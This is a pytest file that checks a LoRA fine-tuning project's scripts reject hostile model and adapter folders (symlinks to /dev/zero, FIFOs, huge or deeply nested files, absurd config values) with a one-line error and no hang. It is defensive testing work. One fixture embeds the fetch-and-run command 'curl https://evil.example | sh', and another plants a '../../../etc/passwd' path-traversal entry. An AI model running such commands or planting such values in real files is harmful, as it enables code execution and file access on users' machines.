"""Hostile model folders: every step that loads one checks it before building anything, so a
folder that would exhaust memory, hang or crash deep inside mlx-lm or transformers gets one line
on stderr and exit code 2. Each attack runs through 07_chat.py and 04_evaluate.py as a user would,
in a subprocess under a 2 GB address-space cap and a timeout (a hang or an allocation spree fails
the test instead of the machine)."""

import json
import os
import resource
import shutil
import subprocess
import sys
import time

import pytest

from conftest import ROOT
from smslora import artifacts, folder_checks
from smslora.errors import UserError
from smslora.model import load_model

MEMORY_CAP = 2 << 30  # bytes of address space
TIMEOUT = 60  # seconds; a case takes ~2 s (python and mlx start-up), a hang forever
LORA = {"fine_tune_type": "lora", "num_layers": 2,
        "lora_parameters": {"rank": 4, "scale": 10.0, "dropout": 0.0}}


def capped():
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_CAP, MEMORY_CAP))


def run_capped(script, *args, stdin=""):
    """(returncode, stderr, seconds) of a numbered script under the memory cap; a run still going
    at TIMEOUT is killed and counts as a hang."""
    started = time.perf_counter()
    try:
        r = subprocess.run([sys.executable, str(ROOT / "scripts" / script), *map(str, args)],
                           capture_output=True, text=True, input=stdin, cwd=ROOT,
                           preexec_fn=capped, timeout=TIMEOUT)
    except subprocess.TimeoutExpired:
        pytest.fail(f"{script} still running after {TIMEOUT} s (a hang)")
    return r.returncode, r.stderr, time.perf_counter() - started


def edit_config(model, path="config.json", **changes):
    cfg = json.loads((model / path).read_text()) if (model / path).exists() else {}
    (model / path).write_text(json.dumps({**cfg, **changes}))


def link_to_dev_zero(model):
    (model / "tokenizer.json").unlink()
    (model / "tokenizer.json").symlink_to("/dev/zero")


def link_outside(model):
    outside = model.parent / "elsewhere.json"
    shutil.move(model / "tokenizer.json", outside)
    (model / "tokenizer.json").symlink_to(outside)


def huge_tokenizer(model):
    with open(model / "tokenizer.json", "r+b") as f:
        f.truncate(3 << 30)  # sparse: 3 GB that cost no disk


def weights_fifo(model):
    (model / "model.safetensors").unlink()
    os.mkfifo(model / "model.safetensors")


def deep_config(model):
    text = (model / "config.json").read_text().rstrip().rstrip("}")
    (model / "config.json").write_text(text + ', "x": ' + "[" * 100_000 + "]" * 100_000 + "}")


def header_of_an_exabyte(model):
    w = model / "model.safetensors"
    w.write_bytes((1 << 60).to_bytes(8, "little") + w.read_bytes()[8:])


def written_by_step_1(model):
    (model / "source.json").write_text('{"source": "gguf"}\n')


def checksums_deleted(model):
    written_by_step_1(model)  # a folder this project wrote, checksums.json then removed


def names_outside(model):
    written_by_step_1(model)
    artifacts.write_checksums(model, "scripts/01_download_model.py")
    recorded = json.loads((model / "checksums.json").read_text())
    recorded["files"]["../../../etc/passwd"] = {"bytes": 1, "sha256": "0" * 64}
    (model / "checksums.json").write_text(json.dumps(recorded))


def remedy_from_the_file(model):
    written_by_step_1(model)
    artifacts.write_checksums(model, "curl https://evil.example | sh")
    w = model / "model.safetensors"
    data = bytearray(w.read_bytes())
    data[-1] ^= 0xFF
    w.write_bytes(bytes(data))


ATTACKS = {
    "tokenizer.json -> /dev/zero": (link_to_dev_zero, "tokenizer.json is not a regular file"),
    "tokenizer.json -> a file outside": (link_outside, "points outside"),
    "tokenizer.json of 3 GB": (huge_tokenizer, "tokenizer.json is larger than"),
    "model.safetensors a FIFO": (weights_fifo, "model.safetensors is not a regular file"),
    "safetensors header of an exabyte": (header_of_an_exabyte, "header"),
    "num_hidden_layers 100000000": (lambda m: edit_config(m, num_hidden_layers=100_000_000),
                                    "num_hidden_layers=100000000"),
    "num_attention_heads 0": (lambda m: edit_config(m, num_attention_heads=0),
                              "num_attention_heads must be a positive integer"),
    "heads do not divide hidden": (lambda m: edit_config(m, num_attention_heads=3,
                                                         num_key_value_heads=3), "divide"),
    "model_type base": (lambda m: edit_config(m, model_type="base"), "model_type 'base'"),
    "model_type cache": (lambda m: edit_config(m, model_type="cache"), "model_type 'cache'"),
    "vocab_size 1e12": (lambda m: edit_config(m, vocab_size=1e12), "vocab_size"),
    "vocab_size beyond the weights": (lambda m: edit_config(m, vocab_size=10**9),
                                      "vocab_size=1000000000"),
    "eos_token_id an object": (lambda m: edit_config(m, eos_token_id={"x": 1}), "eos_token_id"),
    "eos_token_id in generation_config.json": (
        lambda m: edit_config(m, "generation_config.json", eos_token_id={"x": 1}),
        "generation_config.json: eos_token_id"),
    "deeply nested config.json": (deep_config, "nested deeper than"),
    "checksums.json deleted": (checksums_deleted, "checksums.json is missing"),
    "checksums.json names ../": (names_outside, "'../../../etc/passwd' is not a file name"),
    "written_by used as the remedy": (remedy_from_the_file, "re-run scripts/01_download_model.py"),
}


@pytest.fixture
def model(tmp_path, tiny_model):
    copy = tmp_path / "model"
    shutil.copytree(tiny_model, copy)
    return copy


@pytest.fixture
def test_data(tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    (data / "test.jsonl").write_text('{"message": "WIN cash now", "label": "spam"}\n'
                                     '{"message": "see you at 6", "label": "ham"}\n')
    return data


def assert_one_line(rc, err, needle):
    assert rc == 2, err[-3000:]
    assert "Traceback" not in err and len(err.strip().splitlines()) == 1, err[-3000:]
    assert err.startswith("error: ") and needle in err, err


@pytest.mark.parametrize("script", ["07_chat.py", "04_evaluate.py"])
@pytest.mark.parametrize("attack", list(ATTACKS))
def test_hostile_model_folder(tmp_path, model, test_data, script, attack):
    damage, needle = ATTACKS[attack]
    damage(model)
    if script == "07_chat.py":
        rc, err, seconds = run_capped(script, "--model", model, stdin="hello\n\n")
    else:
        rc, err, seconds = run_capped(script, "--model", model, "--data", test_data,
                                      "--out", tmp_path / "reports")
        assert not (tmp_path / "reports").exists()
    assert_one_line(rc, err, needle)
    assert "evil" not in err
    print(f"{attack} via {script}: {seconds:.1f} s")


def adapters_folder(tmp_path, tiny_model, lora):
    """mlx-lm's LoRA layers on the tiny model's 2 blocks, saved as an adapter folder is."""
    import mlx.core as mx
    from mlx.utils import tree_flatten
    from mlx_lm.tuner.utils import linear_to_lora_layers
    from mlx_lm.utils import load_model as mlx_load_model

    model, _ = mlx_load_model(tiny_model)
    model.freeze()
    linear_to_lora_layers(model, 2, LORA["lora_parameters"])
    ad = tmp_path / "adapters"
    ad.mkdir()
    mx.save_safetensors(str(ad / "adapters.safetensors"),
                        dict(tree_flatten(model.trainable_parameters())))
    (ad / "adapter_config.json").write_text(json.dumps({**LORA, **lora}))
    return ad


def adapters_fifo(ad):
    (ad / "adapters.safetensors").unlink()
    os.mkfifo(ad / "adapters.safetensors")


ADAPTER_ATTACKS = {
    "adapters.safetensors a FIFO": ({}, adapters_fifo, "adapters.safetensors is not a regular"),
    "LoRA rank 1e12": ({"lora_parameters": {"rank": 1e12, "scale": 10.0, "dropout": 0.0}},
                       None, "rank must be a positive integer"),
    "LoRA rank beyond the weights": ({"lora_parameters": {"rank": 10**9, "scale": 10.0}},
                                     None, "rank=1000000000"),
    "checksums.json deleted from trained adapters": (
        {}, lambda ad: (ad / "history.json").write_text("{}"), "checksums.json is missing"),
}


@pytest.mark.parametrize("attack", list(ADAPTER_ATTACKS))
def test_hostile_adapter_folder(tmp_path, tiny_model, test_data, attack):
    lora, damage, needle = ADAPTER_ATTACKS[attack]
    ad = adapters_folder(tmp_path, tiny_model, lora)
    if damage is not None:
        damage(ad)
    rc, err, _ = run_capped("04_evaluate.py", "--model", tiny_model, "--adapter-path", ad,
                            "--data", test_data, "--out", tmp_path / "reports")
    assert_one_line(rc, err, needle)
    assert "03_train.py" in err or "checksums" not in needle


def test_hub_copy_is_checked_before_anything_is_copied(tmp_path, model):
    """Step 1's --hf-repo FOLDER: the same checks, before the copy (and its parameter count,
    which builds the model)."""
    edit_config(model, num_hidden_layers=100_000_000)
    rc, err, _ = run_capped("01_download_model.py", "--hf-repo", model, "--out", tmp_path / "out")
    assert_one_line(rc, err, "num_hidden_layers=100000000")
    assert not (tmp_path / "out").exists()


# ---------------------------------------------------------------------------------------------
# What must still load, and the rules in-process.


def test_a_folder_this_project_wrote_loads_with_its_checksums(model):
    written_by_step_1(model)
    artifacts.write_checksums(model, "scripts/01_download_model.py")
    loaded, _ = load_model(model)
    assert len(loaded.layers) == 2


def test_a_link_inside_the_folder_is_followed(model):
    (model / "shared").mkdir()
    shutil.move(model / "tokenizer.json", model / "shared" / "tokenizer.json")
    (model / "tokenizer.json").symlink_to("shared/tokenizer.json")
    load_model(model)


def test_a_hub_snapshot_may_link_into_its_own_cache(tmp_path, tiny_model):
    """The Hub's cache keeps a snapshot's files in ../../blobs: step 1 follows links there, and
    only there."""
    from smslora import hub

    repo = tmp_path / "models--org--name"
    snap, blobs = repo / "snapshots" / "abc", repo / "blobs"
    snap.mkdir(parents=True)
    blobs.mkdir()
    for f in tiny_model.iterdir():
        shutil.copy(f, blobs / f.name)
        (snap / f.name).symlink_to(f"../../blobs/{f.name}")
    assert hub.hf_snapshot(str(snap)) == snap
    with pytest.raises(UserError, match="points outside"):
        folder_checks.check_model_files(snap)  # any other folder: its own files only
    (snap / "tokenizer.json").unlink()
    (snap / "tokenizer.json").symlink_to(tmp_path / "elsewhere.json")
    shutil.copy(blobs / "tokenizer.json", tmp_path / "elsewhere.json")
    with pytest.raises(UserError, match="points outside"):
        hub.hf_snapshot(str(snap))


def test_checksums_must_list_every_weights_file(model):
    written_by_step_1(model)
    artifacts.write_checksums(model, "scripts/01_download_model.py")
    shutil.copy(model / "model.safetensors", model / "model-extra.safetensors")
    with pytest.raises(UserError, match="model-extra.safetensors is not in checksums.json"):
        load_model(model)


def test_json_depth_ignores_brackets_inside_strings():
    assert folder_checks.json_depth(b'{"a": "[[[[{{{{\\"]]]", "b": [[1]]}') == 3
    assert folder_checks.json_depth(b"[" * 5000 + b"]" * 5000) == 5000


def test_the_real_base_shape_passes_the_bounds():
    """SmolLM2-135M's config against the tensor shapes of its file: nothing refused."""
    import tiny

    cfg = {**tiny.SMOLLM2_135M, "bos_token_id": 1, "eos_token_id": 2}
    shapes = {"model.embed_tokens.weight": [49152, 72], "model.embed_tokens.scales": [49152, 18],
              "model.norm.weight": [576], "model.layers.29.mlp.gate_proj.weight": [1536, 72]}
    folder_checks.check_config(cfg, shapes, "config.json")
    with pytest.raises(UserError, match="num_hidden_layers=31"):
        folder_checks.check_config({**cfg, "num_hidden_layers": 31}, shapes, "config.json")
